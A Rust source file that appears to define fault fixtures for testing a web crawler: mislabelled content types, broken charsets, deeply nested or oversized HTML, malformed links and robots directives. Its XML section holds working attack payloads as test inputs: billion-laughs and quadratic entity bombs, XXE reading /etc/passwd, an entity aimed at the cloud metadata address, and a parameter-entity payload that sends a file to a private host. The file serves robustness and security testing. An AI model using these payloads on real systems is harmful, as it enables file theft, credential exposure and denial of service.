//! Bodies that are wrong, or correct but excessive.

use super::{HTML, Listed, SMALL_PAGE, page, sent, whole};
use crate::script::Script;

pub(super) static LISTED: &[Listed] = &[
    Listed {
        path: "/wrong-type",
        what: "HTML called a picture",
        script: |_| typed("image/png", SMALL_PAGE.as_bytes()),
    },
    Listed {
        path: "/picture-as-html",
        what: "a picture called HTML",
        script: |_| typed("text/html", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    },
    Listed {
        path: "/no-type",
        what: "HTML without Content-Type",
        script: |_| sent(whole(200, "", SMALL_PAGE.as_bytes())),
    },
    Listed {
        path: "/bad-type",
        what: "a Content-Type that is none",
        script: |_| typed(";;=\"", SMALL_PAGE.as_bytes()),
    },
    Listed {
        path: "/bad-charset",
        what: "a charset that is none",
        script: |_| typed("text/html; charset=klingon", SMALL_PAGE.as_bytes()),
    },
    Listed {
        path: "/wrong-charset",
        what: "windows-1251 called UTF-8 in the head and ISO-8859-5 in the page",
        script: |_| {
            typed(
                "text/html; charset=utf-8",
                b"<!DOCTYPE html>\n<meta charset=\"iso-8859-5\"><title>\xcf\xf0\xe8\xe2\xe5\xf2</title>\n",
            )
        },
    },
    Listed {
        path: "/utf16",
        what: "HTML in UTF-16 with a byte order mark",
        script: |_| {
            typed(
                "text/html",
                &["\u{feff}", SMALL_PAGE]
                    .concat()
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<u8>>(),
            )
        },
    },
    Listed {
        path: "/invalid-utf8",
        what: "a page with bytes that are not UTF-8 in text, title, and links",
        script: |_| {
            typed("text/html; charset=utf-8", b"<!DOCTYPE html>\n<title>\xff\xfe\xc0\x80</title>\n<p>\xed\xa0\x80\xf5 <a href=\"/\xe9\xff?\xc3\x28\">\xc3</a>\n")
        },
    },
    Listed {
        path: "/nul-bytes",
        what: "a page full of NUL",
        script: |_| {
            typed("text/html", &[b"<title>\0\0</title><a href=\"/\0x\">".as_slice(), &[0; 4096]].concat())
        },
    },
    Listed { path: "/empty", what: "200 with an empty body", script: |_| page("") },
    Listed {
        path: "/many-links",
        what: "100000 links on a page",
        script: |_| {
            page(
                &(0..100_000)
                    .map(|index| format!("<a href=\"/many-links?{index}\">{index}</a>\n"))
                    .collect::<String>(),
            )
        },
    },
    Listed {
        path: "/deep",
        what: "100000 elements inside each other",
        script: |_| page(&"<div>".repeat(100_000)),
    },
    Listed {
        path: "/deep-inline",
        what: "100000 unclosed formatting elements",
        script: |_| page(&"<b><a href=/>".repeat(50_000)),
    },
    Listed {
        path: "/deep-tables",
        what: "20000 tables inside each other",
        script: |_| page(&"<table><tr><td>".repeat(20_000)),
    },
    Listed {
        path: "/long-url",
        what: "a link of 1 MB",
        script: |_| page(&format!("<a href=\"/{}\">long</a>\n", "a".repeat(1_000_000))),
    },
    Listed {
        path: "/long-query",
        what: "a link with 20000 parameters",
        script: |_| page(&format!("<a href=\"/?{}\">long</a>\n", "a=b&amp;".repeat(20_000))),
    },
    Listed {
        path: "/many-attributes",
        what: "an element with 100000 attributes",
        script: |_| {
            page(&format!(
                "<p {}>text\n",
                (0..100_000).map(|index| format!("a{index}=\"\" ")).collect::<String>()
            ))
        },
    },
    Listed {
        path: "/unclosed-tag",
        what: "a tag of 1 MB that never closes",
        script: |_| page(&format!("<p><a href=\"{}", "x".repeat(1_000_000))),
    },
    Listed {
        path: "/unclosed-comment",
        what: "a comment that never closes, with links in it",
        script: |_| page(&format!("<p>text<!-- {}", "<a href=\"/in-comment\">x</a> ".repeat(10_000))),
    },
    Listed {
        path: "/unclosed-script",
        what: "a script that never closes, with links in it",
        script: |_| {
            page(&format!(
                "<p>text<script>{}",
                "document.write('<a href=\"/in-script\">x</a>'); ".repeat(10_000)
            ))
        },
    },
    Listed { path: "/bad-links", what: "links in every wrong form", script: |_| page(BAD_LINKS) },
    Listed {
        path: "/base-elsewhere",
        what: "a base element that points to a private address",
        script: |_| {
            page(
                "<!DOCTYPE html>\n<base href=\"http://10.0.0.1/\"><title>Base</title>\n<a href=\"inside\">x</a> <img src=\"a.png\">\n",
            )
        },
    },
    Listed {
        path: "/robots-meta",
        what: "a page that forbids following and archiving in a meta element",
        script: |_| {
            page(
                "<!DOCTYPE html>\n<meta name=\"robots\" content=\"noindex, nofollow, noarchive\"><title>Private</title>\n<a href=\"/unfollowed\">x</a>\n",
            )
        },
    },
    Listed {
        path: "/robots-tag",
        what: "a page that forbids following and archiving in its head",
        script: |_| {
            sent(whole(
                200,
                &format!("{HTML}X-Robots-Tag: noindex, nofollow, noarchive\r\n"),
                b"<title>Private</title><a href=\"/unfollowed\">x</a>\n",
            ))
        },
    },
    Listed {
        path: "/soft-404",
        what: "200 with a page that says it was not found",
        script: |_| page("<!DOCTYPE html>\n<title>404 Not Found</title>\n<h1>Page not found</h1>\n"),
    },
    Listed {
        path: "/login",
        what: "200 with a form that asks for a password",
        script: |_| {
            page(
                "<!DOCTYPE html>\n<title>Log in</title>\n<form method=\"post\" action=\"/login\"><input name=\"u\"><input type=\"password\" name=\"p\"></form>\n",
            )
        },
    },
    Listed {
        path: "/unauthorized",
        what: "401 that asks for a password",
        script: |_| sent(whole(401, "WWW-Authenticate: Basic realm=\"x\"\r\n", b"")),
    },
];

/// Faults of XML.
pub(super) static XML: &[Listed] = &[
    Listed {
        path: "/xml-bomb",
        what: "entities that expand to 10^9 words (billion laughs)",
        script: |_| {
            let entities: String = (1..10)
                .map(|level| format!("<!ENTITY l{level} \"{}\">\n", format!("&l{};", level - 1).repeat(10)))
                .collect();
            xml(&format!("<!DOCTYPE lolz [\n<!ENTITY l0 \"lol\">\n{entities}]>\n<lolz>&l9;</lolz>\n"))
        },
    },
    Listed {
        path: "/xml-quadratic",
        what: "one entity of 100 kB used 10000 times",
        script: |_| {
            xml(&format!(
                "<!DOCTYPE d [<!ENTITY a \"{}\">]>\n<d>{}</d>\n",
                "a".repeat(100_000),
                "&a;".repeat(10_000)
            ))
        },
    },
    Listed {
        path: "/xml-recursive",
        what: "two entities that contain each other",
        script: |_| xml("<!DOCTYPE d [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>\n<d>&a;</d>\n"),
    },
    Listed {
        path: "/xml-file",
        what: "an external entity that is file:///etc/passwd",
        script: |_| xml("<!DOCTYPE d [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>\n<d>&a;</d>\n"),
    },
    Listed {
        path: "/xml-private",
        what: "an external entity at a private address",
        script: |_| xml("<!DOCTYPE d [<!ENTITY a SYSTEM \"http://169.254.169.254/latest/\">]>\n<d>&a;</d>\n"),
    },
    Listed {
        path: "/xml-parameter",
        what: "parameter entities that would send a file away",
        script: |_| {
            xml(
                "<!DOCTYPE d [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'http://10.0.0.1/?%f;'>\">%e;%s;]>\n<d/>\n",
            )
        },
    },
    Listed {
        path: "/xml-deep",
        what: "200000 elements inside each other",
        script: |_| xml(&format!("{}{}\n", "<a>".repeat(200_000), "</a>".repeat(200_000))),
    },
    Listed {
        path: "/xml-attributes",
        what: "an element with 100000 attributes",
        script: |_| {
            xml(&format!(
                "<a {}/>\n",
                (0..100_000).map(|index| format!("a{index}=\"\" ")).collect::<String>()
            ))
        },
    },
    Listed {
        path: "/xml-broken",
        what: "a document that is not well-formed, with links before the fault",
        script: |_| {
            xml(
                "<d xmlns:xlink=\"http://www.w3.org/1999/xlink\"><l xlink:href=\"/before\"/><b><c></b></c>&undefined;<l xlink:href=\"/after\"/>\n",
            )
        },
    },
    Listed {
        path: "/xml-include-self",
        what: "a document that includes itself (XInclude)",
        script: |_| {
            xml(
                "<d xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/xml-include-self\"/></d>\n",
            )
        },
    },
    Listed {
        path: "/sitemap-loop.xml",
        what: "a sitemap index that lists itself",
        script: |_| {
            xml(
                "<sitemapindex xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><sitemap><loc>http://faults.test/sitemap-loop.xml</loc></sitemap></sitemapindex>\n",
            )
        },
    },
    Listed {
        path: "/sitemap-foreign.xml",
        what: "a sitemap that lists another host's pages and wrong dates",
        script: |_| {
            xml(
                "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>http://h0.s0.test/</loc><lastmod>yesterday</lastmod></url><url><loc>relative</loc><lastmod>9999-99-99</lastmod></url></urlset>\n",
            )
        },
    },
];

const BAD_LINKS: &str = "<!DOCTYPE html>\n<title>Bad links</title>\n\
    <a href>none</a> <a href=\"\">empty</a> <a href=\"   \">blank</a> <a href=\"http://\">no host</a> <a href=\"http:///x\">three</a>\n\
    <a href=\"http://[::1\">bracket</a> <a href=\"http://a b/\">space</a> <a href=\"http://x:99999/\">port</a> <a href=\"//\">slashes</a>\n\
    <a href=\"http://%00/\">nul</a> <a href=\"mailto:a@b\">mail</a> <a href=\"tel:1\">tel</a> <a href=\"data:,x\">data</a> <a href=\"ftp://h0.s0.test/\">ftp</a>\n\
    <a href=\"file:///etc/passwd\">file</a> <a href=\"javascript:void(0)\">script</a> <a href=\"blob:http://x/y\">blob</a> <a href=\"about:blank\">about</a>\n\
    <a href=\"http://user:password@faults.test/with-password\">password</a> <a href=\"HTTP://FAULTS.TEST:80/UPPER\">upper</a>\n\
    <a href=\"/../../above\">above</a> <a href=\"/a/./b/../c\">dots</a> <a href=\"\\\\faults.test\\backslash\">backslash</a> <a href=\"/line\nbreak\">line</a>\n\
    <a href=\"#only\">fragment</a> <a href=\"?only\">query</a> <a href='/single'>single</a> <a href=/bare>bare</a> <a href=\"/&amp;amp&notin;\">entities</a>\n\
    <a href=\"http://xn--ls8h.test/\">puny</a> <a href=\"http://xn--a\u{e9}.test/\">bad puny</a> <a href=\"/\u{fc}ber?\u{fc}\">letters</a> <a href=\"/%zz%\">percent</a>\n\
    <img src=\"\"> <img srcset=\", ,a.png 1x,,b.png 2q, c.png -1w, data:image/png;base64,AA== 1x\"> <iframe src=\"javascript:0\"></iframe>\n";

fn typed(content_type: &str, body: &[u8]) -> Script {
    sent(whole(200, &format!("Content-Type: {content_type}\r\n"), body))
}

fn xml(document: &str) -> Script {
    typed("application/xml", format!("<?xml version=\"1.0\"?>\n{document}").as_bytes())
}
